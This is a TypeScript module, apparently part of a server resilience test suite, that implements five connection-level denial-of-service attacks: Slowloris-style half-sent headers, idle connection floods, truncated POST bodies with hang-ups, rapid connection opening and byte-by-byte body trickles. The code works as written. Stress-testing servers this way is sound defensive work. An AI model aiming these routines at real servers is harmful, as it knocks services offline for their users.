/** Attacks by connections alone: what they cost is descriptors and turns of the event loop. */
import { pause } from "../lib/pause.ts";

/** How long each goes on, ms. */
const ATTACK_MS = 3_000;
const HELD_CONNECTIONS = 400;
const HANG_UPS_PER_SECOND = 60;
const OPENINGS_PER_SECOND = 300;
const TRICKLES = 50;
/** Between two bytes of a trickle, ms. */
const TRICKLE_MS = 100;

export interface WireAttack {
  readonly name: string;
  /** Over TLS, where HTTP/2 is spoken. */
  readonly isSecured?: boolean;
  /** @param path of the neighbour's deployment */
  run(url: URL, path: string): Promise<void>;
}

const connect = ({ hostname, port }: URL) => Deno.connect({ hostname, port: Number(port) });

async function say(connection: Deno.TcpConn, text: string): Promise<void> {
  await connection.write(new TextEncoder().encode(text));
}

/** Opens so many connections, says the same on each, and holds them. */
async function hold(url: URL, text: string): Promise<void> {
  const all = await Promise.all(Array.from({ length: HELD_CONNECTIONS }, () => connect(url)));
  if (text !== "") await Promise.all(all.map((each) => say(each, text)));
  await pause(ATTACK_MS);
  for (const each of all) each.close();
}

/** Does something so many times a second. */
async function often(perSecond: number, act: () => Promise<void>): Promise<void> {
  const begun: Promise<void>[] = [];
  for (let each = 0; each < perSecond * ATTACK_MS / 1_000; each++) {
    begun.push(act().catch(() => {}));
    await pause(1_000 / perSecond);
  }
  await Promise.all(begun);
}

async function hangUp(url: URL, path: string): Promise<void> {
  using connection = await connect(url);
  await say(connection, `POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\n`);
  await say(connection, "Content-Length: 1000\r\n\r\nonly a part");
  await pause(20);
}

async function trickle(url: URL): Promise<void> {
  using connection = await connect(url);
  await say(connection, `POST /stop HTTP/1.1\r\nHost: ${url.host}\r\nContent-Length: 1000\r\n\r\n`);
  for (let ms = 0; ms < ATTACK_MS; ms += TRICKLE_MS) {
    await say(connection, " ");
    await pause(TRICKLE_MS);
  }
}

export const WIRE_ATTACKS: readonly WireAttack[] = [
  {
    name: `${HELD_CONNECTIONS} half heads`,
    run: (url, path) => hold(url, `GET ${path} HTTP/1.1\r\nHost: ${url.host}\r\nX-A: `),
  },
  { name: `${HELD_CONNECTIONS} idle connections`, run: (url) => hold(url, "") },
  {
    name: `${HANG_UPS_PER_SECOND} hang-ups a second`,
    run: (url, path) => often(HANG_UPS_PER_SECOND, () => hangUp(url, path)),
  },
  {
    name: `${OPENINGS_PER_SECOND} connections a second`,
    run: (url) => often(OPENINGS_PER_SECOND, async () => (await connect(url)).close()),
  },
  {
    name: `${TRICKLES} bodies by the byte`,
    run: async (url) =>
      void await Promise.all(Array.from({ length: TRICKLES }, () => trickle(url))),
  },
];
